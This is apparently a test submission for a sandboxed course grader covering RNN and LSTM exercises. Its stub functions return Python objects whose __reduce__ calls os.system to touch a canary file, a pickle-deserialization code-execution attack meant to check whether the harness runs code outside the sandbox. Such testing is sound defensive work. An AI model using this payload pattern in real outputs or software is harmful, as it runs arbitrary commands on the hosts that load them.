# Tries: to hand objects out of the sandbox, which would run code where they are read.
# Earns: nothing
# Status: ok
# Says: holds Python objects instead of numbers

# %%
import os

import numpy as np


class Reduced:
    def __reduce__(self):
        return (os.system, ("touch @CANARY@/course-attack-pickle",))


# %%
def rnn_forward(x, h_0, W_hx, W_hh, b_h):
    return np.array([Reduced()] * 4, dtype=object)


def lstm_step(x, h, c, W_hx, W_hh, b_h):
    return np.array([(1, Reduced())], dtype=[("a", "i4"), ("b", "O")])


def perplexity(probabilities, targets, mask):
    return Reduced()
